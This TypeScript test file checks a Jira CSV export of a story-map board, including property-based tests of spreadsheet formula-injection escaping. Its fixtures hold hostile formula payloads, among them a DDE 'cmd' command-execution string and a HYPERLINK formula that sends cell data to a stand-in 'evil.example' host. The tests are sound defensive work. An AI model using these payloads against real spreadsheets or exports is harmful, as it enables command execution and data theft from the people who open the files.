import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Backlog } from './backlog'
import { toJiraCsv } from './jiraCsv'
import { backlogOf, backlogOptions, cardAt, slice, step } from './testBoard'

const HEADER_START = ['Issue ID', 'Issue Type', 'Summary', 'Description', 'Priority', 'Story Points']

// Steps: two titled "Browse" (distinct epics), "Sign up" between them, and "Empty" with no cards.
const board = [
  step('browse-1', 0, 'Browse'),
  step('signup', 300, 'Sign up'),
  step('browse-2', 600, 'Browse'),
  step('empty', 900, 'Empty'),
  slice('mvp', 0, 'MVP, first cut'),
  slice('later', 500, 'Later'),
  cardAt('pay', 700, 100, {
    title: 'Pay with "one click", fast\nand safe',
    asA: 'buyer',
    iWant: 'to pay',
    acceptance: ['Card saved', 'Receipt, by mail'],
    estimate: 5,
    moscow: 'must',
    labels: ['checkout', 'needs design', 'payments'],
  }),
  cardAt('search', 100, 100, { moscow: 'should', estimate: 2.5, labels: ['catalog'] }),
  cardAt('join', 400, 100, { moscow: 'could' }),
  cardAt('wishlist', 100, 200, { moscow: null }),
  cardAt('chat', 100, 700, { moscow: 'wont' }),
  cardAt('loose', 2000, 3000, { moscow: 'must' }),
]

function rowsOf(csv: string): Record<string, string>[] {
  const [header, ...rows] = parse(csv, { record_delimiter: '\r\n', bom: true })
  return rows.map((row) =>
    Object.fromEntries(
      (header ?? []).map((name, i) => [name === 'Labels' ? `Labels ${i}` : name, row[i] ?? 'MISSING']),
    ),
  )
}

describe('toJiraCsv', () => {
  const backlog = backlogOf(board, { 'shape:search|u1': 1 })
  const csv = toJiraCsv(backlog)
  const rows = rowsOf(csv)
  const epics = rows.filter((row) => row['Issue Type'] === 'Epic')
  const stories = rows.filter((row) => row['Issue Type'] === 'Story')

  it('writes the exact header, one Labels column per label of the most labelled card', () => {
    const [header] = parse(csv, { record_delimiter: '\r\n', bom: true })
    expect(header).toEqual([...HEADER_START, 'Labels', 'Labels', 'Labels', 'Parent', 'Fix Version'])
    expect(csv.startsWith('\uFEFFIssue ID,')).toBe(true)
    expect(csv.endsWith('\r\n')).toBe(true)
  })

  it('writes one epic per step with cards, in step order, before the stories', () => {
    expect(epics.map((row) => row.Summary)).toEqual(['Browse', 'Sign up', 'Browse'])
    expect(rows.slice(0, 3)).toEqual(epics)
    for (const epic of epics) {
      expect([epic.Priority, epic.Parent, epic['Fix Version'], epic['Story Points']]).toEqual([
        '',
        '',
        '',
        '',
      ])
    }
    const ids = rows.map((row) => row['Issue ID'])
    expect(new Set(ids).size).toBe(ids.length)
  })

  it('writes the stories in rank order, each under its epic and release', () => {
    expect(stories.map((row) => row.Summary)).toEqual(backlog.items.map((item) => item.title))
    const epicRowIds = epics.map((row) => row['Issue ID'])
    const stepsWithCards = backlog.epics.filter((epic) =>
      backlog.items.some((item) => item.epicId === epic.id),
    )
    backlog.items.forEach((item, i) => {
      const story = stories[i]
      const epicIndex = stepsWithCards.findIndex((epic) => epic.id === item.epicId)
      expect(story?.Parent).toBe(epicIndex === -1 ? '' : epicRowIds[epicIndex])
      expect(story?.['Fix Version']).toBe(item.release ?? '')
    })
    const pay = stories.find((row) => row.Summary?.startsWith('Pay'))
    expect(pay?.Parent).toBe(epics[2]?.['Issue ID'])
    expect(pay?.['Fix Version']).toBe('MVP, first cut')
    const loose = stories.find((row) => row.Summary === 'loose')
    expect([loose?.Parent, loose?.['Fix Version']]).toEqual(['', ''])
  })

  it('maps MoSCoW to priorities', () => {
    const priorities = Object.fromEntries(stories.map((row) => [row.Summary?.split(' ')[0], row.Priority]))
    expect(priorities).toEqual({
      Pay: 'Highest',
      search: 'High',
      join: 'Medium',
      wishlist: 'Medium',
      chat: 'Lowest',
      loose: 'Highest',
    })
  })

  it('keeps a title with commas, quotes and a line break whole', () => {
    expect(stories[0]?.Summary).toBe('Pay with "one click", fast\nand safe')
  })

  it('writes the story, then the acceptance criteria as Jira bullets, and story points', () => {
    expect(stories[0]?.Description).toBe('As a buyer, I want to pay\n\n* Card saved\n* Receipt, by mail')
    expect(stories[0]?.['Story Points']).toBe('5')
    const search = stories.find((row) => row.Summary === 'search')
    expect([search?.Description, search?.['Story Points']]).toEqual(['', '2.5'])
  })

  it('puts one label in each Labels column, spaces made underscores', () => {
    const labels = (row: Record<string, string> | undefined) => [6, 7, 8].map((i) => row?.[`Labels ${i}`])
    expect(labels(stories[0])).toEqual(['checkout', 'needs_design', 'payments'])
    expect(labels(stories.find((row) => row.Summary === 'search'))).toEqual(['catalog', '', ''])
  })

  it('keeps one empty Labels column when no card has labels, and writes only the header for no cards', () => {
    const bare = parse(toJiraCsv(backlogOf([cardAt('a', 0, 0)])), { record_delimiter: '\r\n', bom: true })
    expect(bare).toEqual([
      [...HEADER_START, 'Labels', 'Parent', 'Fix Version'],
      ['1', 'Story', 'a', '', 'Medium', '', '', '', ''],
    ])
    expect(toJiraCsv(backlogOf([]))).toBe(
      '\uFEFFIssue ID,Issue Type,Summary,Description,Priority,Story Points,Labels,Parent,Fix Version\r\n',
    )
  })
})

describe('toJiraCsv, back to Jira without duplicates', () => {
  const checkout = step('checkout', 0, 'Checkout')
  const fromJira = [
    {
      ...checkout,
      props: { ...(checkout.props as object), description: 'Paying, end to end' },
      meta: { jiraKey: 'SHOP-1' },
    },
    step('new-step', 300, 'Made on the board'),
    cardAt('pay', 100, 100, { moscow: 'must' }),
    { ...cardAt('refund', 100, 300, { moscow: 'wont', labels: ['money'] }), meta: { jiraKey: 'SHOP-7' } },
    cardAt('invoice', 400, 100, { moscow: 'wont' }),
  ]
  const rows = rowsOf(toJiraCsv(backlogOf(fromJira)))

  it('writes each Jira key on its own epic or story, and none on what was made on the board', () => {
    expect(rows.map((row) => [row.Summary, row['Issue Key']])).toEqual([
      ['Checkout', 'SHOP-1'],
      ['Made on the board', ''],
      ['pay', ''],
      ['invoice', ''],
      ['refund', 'SHOP-7'],
    ])
  })

  it('has no Issue Key column for a board that never came from Jira', () => {
    const [header] = parse(toJiraCsv(backlogOf(board)), { record_delimiter: '\r\n', bom: true })
    expect(header).not.toContain('Issue Key')
  })

  it("gives an epic its step's description, and flags won't-have stories with a label", () => {
    expect(rows[0]?.Description).toBe('Paying, end to end')
    const labels = (summary: string) => {
      const row = rows.find((candidate) => candidate.Summary === summary)
      return Object.entries(row ?? {}).flatMap(([name, value]) =>
        name.startsWith('Labels') && value ? [value] : [],
      )
    }
    expect(labels('refund')).toEqual(['money', "Won't_have"])
    expect(labels('invoice')).toEqual(["Won't_have"])
    expect(labels('pay')).toEqual([])
  })
})

/** The OWASP rule as CONTRACT section 7 states it: a leading `'` where a cell would start a formula. */
function formulaSafe(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text
}

describe('toJiraCsv and spreadsheet formulas', () => {
  it('prefixes a title, label, epic or fix version that would start a formula, and nothing else', () => {
    const backlog = backlogOf([
      step('evil-step', 0, "=cmd|' /C calc'!A0"),
      slice('evil-slice', 0, '@SUM(1+1)'),
      cardAt('link', 100, 100, {
        title: '=HYPERLINK("http://evil.example/?"&A1, "Click")',
        labels: ['-1+2'],
      }),
      cardAt('plus', 100, 200, { title: '+1+1', labels: ['@me', 'a=b'] }),
      cardAt('minus', 100, 300, { title: "-2, and 'quoted'" }),
      cardAt('safe', 100, 350, { title: "a=1 'already quoted", labels: ["'x"] }),
    ])
    const rows = rowsOf(toJiraCsv(backlog))
    expect(rows.map((row) => row.Summary)).toEqual([
      "'=cmd|' /C calc'!A0",
      '\'=HYPERLINK("http://evil.example/?"&A1, "Click")',
      "'+1+1",
      "'-2, and 'quoted'",
      "a=1 'already quoted",
    ])
    expect(rows.slice(1).map((row) => [row['Labels 6'], row['Labels 7']])).toEqual([
      ["'-1+2", ''],
      ["'@me", 'a=b'],
      ['', ''],
      ["'x", ''],
    ])
    expect(rows.slice(1).map((row) => row['Fix Version'])).toEqual(Array(4).fill("'@SUM(1+1)"))
  })

  // Built as a backlog rather than a board: the board trims titles, so a leading tab or CR only
  // reaches the export through a backlog, and the rule holds for every text the export is given.
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc
      .tuple(
        fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\r\n', '"', ',', "'", ' '),
        fc.string({ unit: 'binary' }),
      )
      .map(([start, rest]) => start + rest),
  )
  const cardTexts = fc.record({ title: text, story: text, label: text, epic: text, release: text })

  function backlogOfTexts(
    cards: { title: string; story: string; label: string; epic: string; release: string }[],
  ): Backlog {
    return {
      boardId: backlogOptions.boardId,
      versionId: null,
      generatedAt: backlogOptions.generatedAt,
      epics: cards.map((card, i) => ({
        id: `shape:step-${i}`,
        title: card.epic,
        description: card.story,
        jiraKey: null,
      })),
      releases: cards.map((card, i) => ({ id: `shape:slice-${i}`, name: card.release })),
      items: cards.map((card, i) => ({
        rank: i + 1,
        id: `shape:card-${i}`,
        title: card.title,
        story: card.story,
        acceptance: [],
        estimate: null,
        moscow: null,
        votes: 0,
        labels: [card.label],
        epic: card.epic,
        release: card.release,
        url: backlogOptions.cardUrl(`shape:card-${i}`),
        epicId: `shape:step-${i}`,
        releaseId: `shape:slice-${i}`,
        jiraKey: null,
        comments: [],
        openQuestions: 0,
      })),
      warnings: [],
    }
  }

  it('reads back every text as it was, with a leading quote exactly where a formula would start', () => {
    fc.assert(
      fc.property(fc.array(cardTexts, { minLength: 1, maxLength: 4 }), (cards) => {
        const [, ...rows] = parse(toJiraCsv(backlogOfTexts(cards)), { record_delimiter: '\r\n', bom: true })
        const epics = rows.slice(0, cards.length)
        const stories = rows.slice(cards.length)
        expect(epics.map((row) => row.slice(2, 4))).toEqual(
          cards.map((card) => [formulaSafe(card.epic), formulaSafe(card.story)]),
        )
        expect(stories.map((row) => row.slice(2, 4))).toEqual(
          cards.map((card) => [formulaSafe(card.title), formulaSafe(card.story)]),
        )
        // Jira splits labels at spaces, so the export writes them as underscores (tested above).
        expect(stories.map((row) => row[6])).toEqual(
          cards.map((card) => formulaSafe(card.label.replace(/\s+/g, '_'))),
        )
        expect(stories.map((row) => row[8])).toEqual(cards.map((card) => formulaSafe(card.release)))
      }),
    )
  })
})
